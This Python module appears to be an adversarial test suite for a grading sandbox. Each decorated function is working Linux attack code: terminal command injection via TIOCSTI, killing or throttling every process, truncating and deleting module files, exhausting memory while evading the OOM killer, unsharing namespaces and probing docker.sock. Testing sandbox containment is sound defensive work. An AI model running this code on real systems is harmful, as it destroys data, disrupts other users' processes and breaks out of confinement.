"""Attacks on the sandbox: ways out of it, and ways to harm the machine, its other programs, or the next student."""
# ruff: noqa: SIM105
# mypy: ignore-errors

from __future__ import annotations

from typing import Any

from graders.trust.attacks import attack


@attack("in_one", "a stop of a traced process, which its parent would take for an end")
def traces_itself(*args: Any, **kwargs: Any) -> Any:
    import ctypes
    import os
    import signal

    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace(0, 0, None, None)
    libc.syscall(101 if os.uname().machine == "x86_64" else 117, 0, 0, None, None)
    os.kill(os.getpid(), signal.SIGSTOP)
    return 0


@attack("in_one", "a key for the next student, and those of who grades")
def leaves_keys(*args: Any, **kwargs: Any) -> Any:
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    add_key, keyctl = (248, 250) if os.uname().machine == "x86_64" else (217, 219)
    for keyring in (-1, -2, -3, -4, -5):
        libc.syscall(add_key, b"user", b"attacked", b"x", 1, keyring)
        libc.syscall(keyctl, 8, keyring, -4)
    return 0


@attack("in_one", "files in shared memory and queues that outlive the worker")
def leaves_shared_memory(*args: Any, **kwargs: Any) -> Any:
    import ctypes

    for folder in ("/dev/shm", "/dev/mqueue", "/run/shm", "/run/lock", "/var/tmp", "/var/lock"):
        try:
            with open(f"{folder}/attacked", "w") as file:
                file.write("x")
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget(0x5EC, 1 << 20, 0o1666)
    return 0


@attack("in_one", "a namespace of its own, with all rights, a disk of 500 GiB and raw sockets in it")
def nests_namespaces(*args: Any, **kwargs: Any) -> Any:
    import ctypes
    import os
    import socket

    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (0x10020000 | 0x40000000, 0x10000000, 0x20000):
        if libc.unshare(flags) == 0:
            libc.mount(b"none", os.getcwd().encode(), b"tmpfs", 0, b"size=500g")
    for kind in range(46):
        for shape in (1, 2, 3):
            try:
                socket.socket(kind, shape)
            except OSError:
                pass
    for path in ("/proc/sys/user/max_user_namespaces", "/proc/sysrq-trigger"):
        try:
            with open(path, "w") as file:
                file.write("0")
        except OSError:
            pass
    return 0


@attack("in_one", "memory in many processes and between them, after it took back that it goes first", harmful=True)
def holds_memory(*args: Any, **kwargs: Any) -> Any:
    import ctypes
    import mmap
    import os
    import time

    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")
    except OSError:
        pass
    held = []
    for _ in range(12):
        try:
            if os.fork() == 0:
                held.append(b"x" * (700 << 20))
                time.sleep(60)
        except (OSError, MemoryError):
            break
    for _ in range(16):
        try:
            shared = mmap.mmap(-1, 1 << 30)
            shared.write(b"x" * (1 << 30))
            held.append(shared)
        except (OSError, MemoryError):
            break
    for _ in range(16):
        memory = ctypes.CDLL(None).memfd_create(b"x", 0)
        try:
            os.write(memory, b"x" * (64 << 20))
        except OSError:
            break
    time.sleep(60)
    return 0


@attack("in_one", "an end, a limit or a slow processor for every process it can name", harmful=True)
def ends_everybody(*args: Any, **kwargs: Any) -> Any:
    import os
    import resource
    import signal

    pids = {os.getppid(), os.getppid() - 1, *range(2, 40)}
    try:
        pids |= {int(name) for name in os.listdir("/proc") if name.isdigit()}
    except OSError:
        pids |= set(range(2, 60_000))
    for pid in pids - {os.getpid(), 1, 0}:
        for harm in (
            lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
            lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda pid=pid: os.sched_setaffinity(pid, {0}),
            lambda pid=pid: os.kill(pid, signal.SIGKILL),
        ):
            try:
                harm()
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
    return 0


@attack("in_one", "other rights, times, lengths and names for the files that the next exercise reads", harmful=True)
def spoils_files(*args: Any, **kwargs: Any) -> Any:
    import os
    import sys

    modules = [str(module.__file__) for module in list(sys.modules.values()) if getattr(module, "__file__", None)]
    for path in [path for path in modules if "exercises" in path or "torch" in path][:200]:
        for harm in (
            lambda path=path: os.chmod(path, 0),
            lambda path=path: os.chmod(os.path.dirname(path), 0),
            lambda path=path: os.utime(path, (0, 0)),
            lambda path=path: os.truncate(path, 0),
            lambda path=path: os.open(path, os.O_RDONLY | os.O_TRUNC),
            lambda path=path: os.rename(path, path + ".attacked"),
            lambda path=path: os.remove(path),
        ):
            try:
                harm()
            except OSError:
                pass
    return 0


@attack("in_one", "what it likes on the terminal of who grades", harmful=True)
def types_into_terminals(*args: Any, **kwargs: Any) -> Any:
    import fcntl
    import glob
    import os

    for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty*")]:
        try:
            terminal = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            os.write(terminal, b"attacked\r\n")
            for letter in b"touch attacked\n":
                fcntl.ioctl(terminal, 0x5412, bytes([letter]))
        except OSError:
            continue
    return 0


@attack("in_one", "services of the machine that do things for whoever asks", harmful=True)
def asks_services(*args: Any, **kwargs: Any) -> Any:
    import glob
    import os
    import socket

    found = [
        "/run/docker.sock",
        "/run/systemd/private",
        *glob.glob("/run/**/*", recursive=True),
        *glob.glob("/tmp/.X11-unix/*"),
    ]
    try:
        with open("/proc/net/unix") as table:
            found += [line.split()[-1].replace("@", "\0", 1) for line in table if "@" in line or "/" in line]
    except OSError:
        pass
    for path in found[:2000]:
        for shape in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try:
                with socket.socket(socket.AF_UNIX, shape) as made:
                    made.settimeout(0.1)
                    made.connect(path)
                    made.send(b"\0AUTH EXTERNAL\r\nGET / HTTP/1.0\r\n\r\n")
                    with open(f"{os.path.expanduser('~')}/attacked", "w") as file:
                        file.write("x")
            except (OSError, ValueError):
                continue
    return 0
